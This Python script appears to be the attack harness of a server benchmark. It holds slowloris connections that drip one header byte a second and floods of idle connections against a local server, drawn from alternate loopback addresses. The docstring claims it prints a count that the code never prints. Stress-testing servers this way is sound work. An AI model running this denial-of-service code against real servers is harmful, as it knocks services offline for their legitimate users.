#!/usr/bin/env python3
"""The attack of the serve-codec benchmark: SLOW slowloris connections (a request line, then one header byte a
second, never finished) and IDLE connections that send nothing, on 127.0.0.1:PORT from other loopback addresses than
the legitimate load's, each opened again when the server closes it. Runs until killed; prints how many it opened.

  slow_clients.py PORT [SLOW] [IDLE]
"""
import asyncio
import signal
import sys


async def slowloris(port, source):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
            writer.write(b"POST /decode HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            while True:
                await writer.drain()
                await asyncio.sleep(1)
                writer.write(b"a")
        except (OSError, ConnectionError):
            await asyncio.sleep(0.2)


async def idle(port, source):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
            await reader.read()  # until the server closes it
        except (OSError, ConnectionError):
            pass
        await asyncio.sleep(0.2)


async def main():
    port = int(sys.argv[1])
    slow = int(sys.argv[2]) if len(sys.argv) > 2 else 64
    idle_count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    tasks = [asyncio.create_task(slowloris(port, "127.0.2.1")) for _ in range(slow)]
    tasks += [asyncio.create_task(idle(port, f"127.0.3.{1 + i % 50}")) for i in range(idle_count)]
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    await stop.wait()


if __name__ == "__main__":
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main())
